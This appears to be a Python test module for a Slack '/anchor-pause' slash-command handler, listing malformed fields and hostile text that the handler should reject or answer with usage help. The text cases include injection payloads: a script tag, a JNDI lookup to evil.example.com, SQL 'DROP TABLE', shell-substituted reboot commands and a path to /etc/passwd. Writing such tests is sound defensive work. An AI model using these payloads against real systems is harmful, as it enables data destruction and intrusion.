"""Slash commands that Slack would not send, and such as name no session."""

from inbound.bad_requests.case import Case
from inbound.bad_requests.ingredients import MARK, NO_IDS, SESSION, command

_USAGE = "Usage: `/anchor-pause"

_TEXTS = {
    "empty": "",
    "missing": None,
    "a space": " ",
    "a NUL": "\0",
    "control characters": "".join(map(chr, range(32))),
    "a call to everybody": "<!channel> <!here> <!everyone>",
    "a call to a group": "<!subteam^S0GROUP0001|@oncall>",
    "a link with another text": "<https://evil.example.com|Click to resume>",
    "a link in HTML": "<a href='https://evil.example.com'>resume</a><script>alert(1)</script>",
    "a mention": "<@U0ALICE0001>",
    "backticks": "``` ` ``",
    "format strings": "%s %n {0} {0.__class__} ${jndi:ldap://evil.example.com/a}",
    "a template": "{{7*7}} {% raw %} <%= 7*7 %>",
    "SQL": "'; DROP TABLE sessions; --",
    "a shell's": "$(reboot) `reboot` ; reboot | reboot",
    "a path": "../../../../etc/passwd",
    "bidirectional overrides": "\u202e\u2066\u2069\u200f" + MARK,
    "zero-width characters": "\u200b\u200c\u200d\ufeff" * 50,
    "beyond the basic plane": "\U0001f600" * 200,
    "a noncharacter": "\uffff\ufffe\U0010ffff",
    "combining characters without end": "e" + "\u0301" * 5000,
    "line breaks of all kinds": "a\nb\rc\x0bd\x0ce\x85f\u2028g\u2029h",
    "the longest there may be": "a" * 40_000,
    "the longest of hexadecimal digits": "a-" * 20_000,
    "an id that is too short": SESSION[:-1],
    "an id that is too long": SESSION + "0",
    "an id of other letters": SESSION.replace("f", "g"),
    "the id nobody has, in Arabic digits": SESSION.translate({ord(str(digit)): 0x660 + digit for digit in range(10)}),
    "two ids": f"{SESSION} 9c0d7e11-2222-4333-8444-555566667777",
    "a thousand ids": " ".join(f"{number:08x}{SESSION[8:]}" for number in range(1000)),
    "JSON": '{"session_id": 5}',
    "a URL of a session that is none": "https://app.example.com/sessions/none?token=" + MARK,
    "lone hyphens": "-" * 3000,
}

_TOO_LONG = "a" * 40_001

CASES = (
    *(
        Case(name=f"a command {what} {field}", status=400, body=command(**{field: value}))
        for field in ("command", "team_id", "channel_id", "user_id")
        for what, value in (("without", None), ("with an empty", ""))
    ),
    *(
        Case(name=f"a command whose {field} is {what}", status=400, body=command(**{field: value}))
        for field in ("team_id", "channel_id", "user_id")
        for what, value in NO_IDS.items()
    ),
    *(
        Case(name=f"a command whose {field} has 40,001 characters", status=400, body=command(**{field: _TOO_LONG}))
        for field in ("command", "text", "response_url", "trigger_id")
    ),
    Case(
        name="a command whose user_id comes twice, the last one bad",
        status=400,
        body=command() + b"&user_id=%3C%21here%3E",
    ),
    *(
        Case(name=f"a command whose text is {what}", status=200, says=_USAGE, body=command(text=text))
        for what, text in _TEXTS.items()
    ),
)
